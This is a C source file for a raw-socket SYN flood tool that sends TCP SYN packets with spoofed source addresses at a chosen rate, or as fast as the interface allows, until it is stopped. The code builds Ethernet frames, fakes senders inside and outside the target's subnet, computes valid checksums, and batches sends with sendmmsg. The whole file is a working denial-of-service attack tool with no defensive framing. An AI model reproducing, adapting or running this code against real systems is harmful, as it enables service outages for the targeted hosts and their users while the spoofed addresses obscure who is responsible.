/*
 * SYNs from senders that do not exist, with right checksums, until SIGTERM:
 *
 *   syn_flood INTERFACE ADDRESS PORT RATE
 *
 * RATE a second, or with 0 as fast as the interface takes them. Half come from the network of the address, half from anywhere. Says how
 * many went, and in how many milliseconds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64 };

struct frame {
    struct ether_header link;
    struct iphdr ip;
    struct tcphdr tcp;
} __attribute__((packed));

static uint32_t drawn = 2463534242u;
static uint32_t draw(void) {
    drawn ^= drawn << 13;
    drawn ^= drawn >> 17;
    return drawn ^= drawn << 5;
}

static uint16_t checksum(const void *bytes, size_t len, uint32_t sum) {
    const uint8_t *at = bytes;
    for (; len > 1; len -= 2, at += 2)
        sum += (uint32_t)(at[0] << 8 | at[1]);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void fill(struct frame *frame, struct in_addr to, uint16_t port) {
    uint32_t near = (ntohl(to.s_addr) & 0xffffff00u) | (100 + draw() % 100);
    uint32_t from = draw() & 1 ? near : draw();
    frame->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
    frame->ip.tot_len = htons(sizeof frame->ip + sizeof frame->tcp);
    frame->ip.saddr = htonl(from);
    frame->ip.daddr = to.s_addr;
    frame->ip.check = checksum(&frame->ip, sizeof frame->ip, 0);
    frame->tcp = (struct tcphdr){.doff = 5, .syn = 1};
    frame->tcp.source = htons((uint16_t)draw());
    frame->tcp.dest = htons(port);
    frame->tcp.seq = draw();
    frame->tcp.window = htons(65000);
    uint32_t to_bits = ntohl(to.s_addr);
    uint32_t pseudo = (from >> 16) + (from & 0xffff) + (to_bits >> 16) + (to_bits & 0xffff) + IPPROTO_TCP + sizeof frame->tcp;
    frame->tcp.check = checksum(&frame->tcp, sizeof frame->tcp, pseudo);
}

/* Whom the neighbour's address belongs to, as the kernel knows it: everybody, if it does not. */
static void find(const char *address, uint8_t *mac) {
    char line[256], ip[64], text[32];
    memset(mac, 0xff, 6);
    FILE *table = fopen("/proc/net/arp", "r");
    while (table && fgets(line, sizeof line, table))
        if (sscanf(line, "%63s %*s %*s %31s", ip, text) == 2 && !strcmp(ip, address))
            sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5);
    if (table)
        fclose(table);
}

static volatile sig_atomic_t is_over;
static void stop(int number) { is_over = number; }

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int count, char **words) {
    struct in_addr to;
    if (count != 5 || !inet_aton(words[2], &to))
        return 2;
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1])};
    struct ifreq own = {0};
    strncpy(own.ifr_name, words[1], IFNAMSIZ - 1);
    if (fd < 0 || bind(fd, (struct sockaddr *)&link, sizeof link) || ioctl(fd, SIOCGIFHWADDR, &own)) {
        perror("syn_flood");
        return 1;
    }
    static struct frame frames[BATCH];
    static struct iovec pieces[BATCH];
    static struct mmsghdr messages[BATCH];
    for (int n = 0; n < BATCH; n++) {
        find(words[2], frames[n].link.ether_dhost);
        memcpy(frames[n].link.ether_shost, own.ifr_hwaddr.sa_data, 6);
        frames[n].link.ether_type = htons(ETHERTYPE_IP);
        pieces[n] = (struct iovec){&frames[n], sizeof frames[n]};
        messages[n].msg_hdr = (struct msghdr){.msg_iov = &pieces[n], .msg_iovlen = 1};
    }
    signal(SIGTERM, stop);
    unsigned long sent = 0, rate = strtoul(words[4], NULL, 10);
    double began = now();
    while (!is_over) {
        double due = rate ? began + (double)sent / (double)rate : 0, left = due - now();
        if (left > 0) {
            struct timespec pause = {0, (long)(left * 1e9)};
            nanosleep(&pause, NULL);
        }
        for (int n = 0; n < BATCH; n++)
            fill(&frames[n], to, (uint16_t)atoi(words[3]));
        int went = sendmmsg(fd, messages, BATCH, 0);
        sent += went > 0 ? (unsigned long)went : 0;
    }
    printf("%lu sent in %.0f ms\n", sent, (now() - began) * 1e3);
    return 0;
}
